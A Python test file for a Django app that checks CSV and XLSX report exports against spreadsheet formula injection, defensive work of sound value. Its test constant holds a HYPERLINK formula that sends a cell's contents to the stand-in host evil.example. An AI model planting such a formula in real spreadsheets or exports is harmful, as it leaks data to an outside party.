"""Every cell of every export, headers included, is safe to open in a spreadsheet."""

import csv
import io

import openpyxl
import pandas as pd
import pytest
from django.urls import reverse

from evaluations import services
from reports.files import to_csv, to_xlsx
from tests.evaluations.factories import respond

pytestmark = pytest.mark.django_db

LABEL = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for the results")'


def sheet_of(body: bytes):
    return openpyxl.load_workbook(io.BytesIO(body)).active


def test_the_csv_makes_headers_and_cells_inert_with_an_apostrophe():
    frame = pd.DataFrame([{"Survey": "=2+2 After", LABEL: "-1", "Count": -1}])
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
    assert rows == [["Survey", "'" + LABEL, "Count"], ["'=2+2 After", "'-1", "-1"]]


def test_the_xlsx_stores_text_as_text_with_the_quote_prefix_and_no_visible_apostrophe():
    frame = pd.DataFrame([{"Survey": "=2+2 After", LABEL: "@SUM(A1)", "Count": -1}])
    sheet = sheet_of(to_xlsx(frame, sheet_name="Responses"))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells] == ["Survey", LABEL, "Count", "=2+2 After", "@SUM(A1)", -1]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.quotePrefix for cell in cells] == [False, True, False, True, True, False]


@pytest.fixture
def hostile_cohort(cohort):
    """A facilitator's report label and a survey title that a spreadsheet would run."""
    after = services.survey_open(survey=services.survey_add(cohort=cohort, phase="after"))
    after.title = "=2+2 After"
    after.save()
    item = after.items.get(code="aim-1")
    item.report_label = LABEL
    item.save()
    respond(after, {"aim-1": 4, "comments": "+44 1234 567890"})
    return cohort


def test_the_raw_responses_csv_is_inert_in_its_headers_and_survey_column(lead_client, hostile_cohort):
    url = reverse("reports:report_responses", args=[hostile_cohort.slug, "csv"])
    rows = list(csv.reader(io.StringIO(lead_client.get(url).content.decode("utf-8-sig"))))
    assert "'" + LABEL in rows[0]
    assert rows[1][0] == "'=2+2 After"
    assert "'+44 1234 567890" in rows[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_raw_responses_xlsx_has_no_formula_anywhere(lead_client, hostile_cohort):
    url = reverse("reports:report_responses", args=[hostile_cohort.slug, "xlsx"])
    sheet = sheet_of(lead_client.get(url).content)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert LABEL in [cell.value for cell in sheet[1]]
    assert sheet["A2"].value == "=2+2 After" and sheet["A2"].quotePrefix


def test_the_figures_xlsx_has_no_formula_anywhere(lead_client, hostile_cohort):
    url = reverse("reports:report_figures", args=[hostile_cohort.slug, "xlsx"])
    sheet = sheet_of(lead_client.get(url).content)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert not any(isinstance(cell.value, str) and cell.value.startswith("'=") for cell in cells)
